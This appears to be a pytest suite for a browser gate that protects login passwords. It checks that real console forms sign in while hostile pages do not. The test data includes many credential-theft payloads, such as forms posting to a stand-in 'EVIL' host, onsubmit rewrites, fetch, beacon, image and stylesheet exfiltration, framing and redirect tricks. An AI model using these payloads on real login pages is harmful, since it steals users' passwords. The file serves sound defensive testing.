"""Login pages that try to get at the password by their forms and scripts.

Whatever the page does, the other server never hears the password, the console hears it at most
once, and the page never has it.
"""

from __future__ import annotations

import json
import urllib.parse
from collections.abc import Callable
from typing import Any

import pytest

USER = "000"
SECRET = 'S3cr3t-é"&\\1'
FORM = """<form method=post action=/api/login>
  <input name=user><input name=pass type=password><button>Connexion</button></form>"""
BY_SCRIPT = """<input name=user><input name=pass type=password><button onclick=login()>Connexion</button><script>
  const value = name => document.querySelector(`[name=${name}]`).value;
  const post = (path, body, headers) =>
    fetch(path, {method: 'POST', body, headers}).then(r => r.text(), e => 'stopped');
  const json = {'content-type': 'application/json'};
  const say = textContent =>
    document.body.append(Object.assign(document.createElement('p'), {id: 'said', textContent}));
"""

Visit = Callable[..., Any]


def test_a_plain_form_signs_in_and_the_page_never_has_the_password(visit: Visit) -> None:
    seen = visit(FORM)
    seen.type()
    assert seen.page.locator("[name=pass]").input_value() == seen.gate.placeholder
    seen.press()
    seen.page.get_by_role("heading", name="Bienvenue").wait_for()
    seen.check(posts=1)
    (post,) = seen.console.posts
    assert dict(urllib.parse.parse_qsl(post.body.decode())) == {"user": USER, "pass": SECRET}
    assert seen.gate.result.http_status == 200
    assert seen.gate.result.body_text == "<h1>Bienvenue</h1>"
    assert [cookie["name"] for cookie in seen.page.context.cookies()] == ["session"]


def test_a_script_that_posts_json_signs_in(visit: Visit) -> None:
    seen = visit(
        BY_SCRIPT
        + "const login = () => post('/api/login', JSON.stringify({Username: value('user'), Password: value('pass')}),"
        " json).then(say)</script>"
    )
    seen.type()
    seen.press()
    seen.page.locator("#said").wait_for()
    seen.check(posts=1)
    assert json.loads(seen.console.posts[0].body) == {"Username": USER, "Password": SECRET}


def test_a_multipart_form_signs_in(visit: Visit) -> None:
    seen = visit(FORM.replace("<form", "<form enctype=multipart/form-data"))
    seen.type()
    seen.press()
    seen.page.get_by_role("heading", name="Bienvenue").wait_for()
    seen.check(posts=1)
    assert f'name="pass"\r\n\r\n{SECRET}\r\n'.encode() in seen.console.posts[0].body


STOPPED = {
    "a form that posts elsewhere": FORM.replace("action=/api", "action=EVIL/api"),
    "a base address elsewhere": "<base href=EVIL/>" + FORM.replace("action=/api", "action=api"),
    "a form sent by GET": FORM.replace("method=post", "method=get"),
    "a button with an address of its own": FORM.replace("<button", "<button formaction=EVIL/api/login"),
    "an address that changes at the last moment": FORM.replace(
        "<form", "<form onsubmit=\"this.action='EVIL/api/login'\""
    ),
    "a method that changes at the last moment": FORM.replace("<form", "<form onsubmit=\"this.method='get'\""),
    "an account that changes at the last moment": FORM.replace("<form", "<form onsubmit=\"this.user.value='admin'\""),
    "a second password field": FORM.replace("<button", "<input name=copy type=password><button").replace(
        "<form", '<form onsubmit="this.copy.value=this.pass.value"'
    ),
    "a field that cuts the password": FORM.replace("type=password", "type=password maxlength=12"),
    "a page that turns it into base64": FORM.replace("<form", '<form onsubmit="this.pass.value=btoa(this.pass.value)"'),
    "a page that hashes it": FORM.replace("<form", "<form onsubmit=\"this.pass.value='5f4dcc3b5aa765d6'\""),
    "a page of the console that is no login": FORM.replace("/api/login", "/api/comments"),
    "an account in the address": FORM.replace("action=/api", "action=http://x:y@127.0.0.1:0/api"),
}


@pytest.mark.parametrize("html", STOPPED.values(), ids=STOPPED)
def test_a_form_that_is_not_the_consoles_login_gets_nothing(visit: Visit, html: str) -> None:
    seen = visit(html)
    seen.type()
    seen.press()
    seen.until(lambda: seen.gate.result.aborted or "chrome-error" in seen.page.url)
    seen.check(posts=0)
    assert seen.evil.heard == []


def test_a_form_that_opens_a_new_window_gets_nothing(visit: Visit) -> None:
    seen = visit(FORM.replace("<form", "<form target=_blank"))
    seen.type()
    seen.press()
    seen.until(lambda: seen.gate.result.aborted)
    seen.check(posts=0)


SCRIPTS = {
    "in a header": "fetch('/api/login',"
    " {method: 'POST', headers: {authorization: 'Basic ' + btoa('000:' + value('pass'))}})",
    "by another method": "fetch('/api/login', {method: 'PUT', body: JSON.stringify([value('user'), value('pass')])})",
    "in the address of a post": "post('/api/login?p=' + value('pass'),"
    " JSON.stringify({u: '000', p: value('pass')}), json)",
    "as a file": "post('/api/login', new Blob([value('user') + value('pass')]))",
    "to another port": "post('EVIL/api/login', JSON.stringify({u: '000', p: value('pass')}))",
    "in base64 to another port": "post('EVIL/x', btoa('u:' + value('pass')))",
    "percent by percent": "fetch('EVIL/?' + [...value('pass')].map(c => '%' + c.charCodeAt(0).toString(16)).join(''))",
    "as a picture": "Promise.resolve(new Image().src = 'EVIL/i.png?' + value('pass'))",
    "by a beacon": "Promise.resolve(navigator.sendBeacon('EVIL/b', value('pass')))",
    "as a stylesheet": "Promise.resolve(document.head.append(Object.assign(document.createElement('link'),"
    " {rel: 'stylesheet', href: 'EVIL/' + value('pass')})))",
    "by leaving": "Promise.resolve(location = 'EVIL/?' + value('pass'))",
    "to the console itself, as a comment": "post('/comments', value('pass'))",
}


@pytest.mark.parametrize("script", SCRIPTS.values(), ids=SCRIPTS)
def test_a_script_that_sends_it_otherwise_sends_nothing(visit: Visit, script: str) -> None:
    seen = visit(f"{BY_SCRIPT} const login = () => {script}.then(() => say('done'), () => say('done'))</script>")
    seen.type()
    seen.press()
    seen.until(lambda: seen.gate.result.aborted)
    seen.check(posts=0)
    assert seen.evil.heard == []


def test_a_page_that_counts_on_an_address_of_ours_in_a_frame_gets_nothing(visit: Visit, console: Any) -> None:
    console.pages["/login"] = FORM
    seen = visit("<iframe src=/login></iframe>")
    frame = seen.page.frames[1]
    frame.fill("[name=user]", USER)
    frame.fill("[name=pass]", seen.gate.placeholder)
    frame.click("button", no_wait_after=True)
    seen.until(lambda: seen.gate.result.aborted)
    seen.check(posts=0)


def test_a_foreign_page_that_frames_the_console_gets_nothing(visit: Visit, console: Any, evil: Any) -> None:
    evil.pages["/"] = f"<iframe src={console.origin}/></iframe>"
    seen = visit(FORM, start=f"{evil.origin}/")
    frame = seen.page.frames[1]
    frame.fill("[name=user]", USER)
    frame.fill("[name=pass]", seen.gate.placeholder)
    frame.click("button", no_wait_after=True)
    seen.until(lambda: seen.gate.result.aborted)
    seen.check(posts=0)


def test_a_console_that_sends_the_visitor_elsewhere_first_gets_nothing(visit: Visit, console: Any, evil: Any) -> None:
    """The other page looks the same, and posts to the console or to itself."""
    evil.pages["/"] = FORM.replace("action=/api", f"action={console.origin}/api")
    seen = visit("<meta http-equiv=refresh content='0; url=EVIL/'>")
    seen.page.wait_for_url(f"{evil.origin}/")
    seen.type()
    seen.press()
    seen.until(lambda: seen.gate.result.aborted)
    seen.check(posts=0)
